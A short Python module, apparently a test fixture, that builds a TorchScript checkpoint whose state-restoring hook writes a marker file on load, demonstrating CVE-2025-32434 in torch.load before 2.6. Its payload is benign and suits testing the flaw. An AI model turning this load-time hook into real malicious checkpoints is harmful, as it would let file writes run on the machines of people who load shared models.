"""A checkpoint that is a program: torch.jit.load runs it, and torch.load did before torch 2.6."""

import warnings
from pathlib import Path
from typing import Any

import torch


class Program(torch.nn.Module):
    """Writes nine bytes to a file when it is loaded (CVE-2025-32434)."""

    def __init__(self, marker: str) -> None:
        super().__init__()
        self.marker = marker
        self.written = torch.zeros(1)

    def forward(self) -> torch.Tensor:
        return self.written

    @torch.jit.export
    def __getstate__(self) -> str:
        return self.marker

    @torch.jit.export
    def __setstate__(self, state: str) -> None:
        self.marker = state
        self.training = False
        file = torch.from_file(state, shared=True, size=9, dtype=torch.uint8)
        self.written = file.fill_(120)


def write_program(path: Path, marker: Path) -> None:
    """Write an archive that creates the file ``marker`` when it is loaded as torch.jit does."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # torch 2.13: TorchScript is deprecated
        script: Any = torch.jit.script(Program(str(marker)))
    script.save(str(path))
    assert not marker.exists()


def run_program(path: Path) -> None:
    """Loads the file as torch.load before torch 2.6 does, also with ``weights_only=True``."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.load(str(path))
